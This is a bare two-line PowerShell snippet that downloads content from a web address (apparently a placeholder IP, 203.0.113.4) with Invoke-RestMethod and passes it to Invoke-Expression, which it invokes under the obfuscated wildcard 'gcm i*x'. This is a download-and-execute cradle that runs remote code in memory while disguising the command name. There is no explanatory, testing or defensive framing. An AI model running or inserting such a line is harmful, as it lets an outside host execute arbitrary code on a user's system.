$where = 'http://203.0.113.4/a'
& (gcm i*x) (Invoke-RestMethod $where)
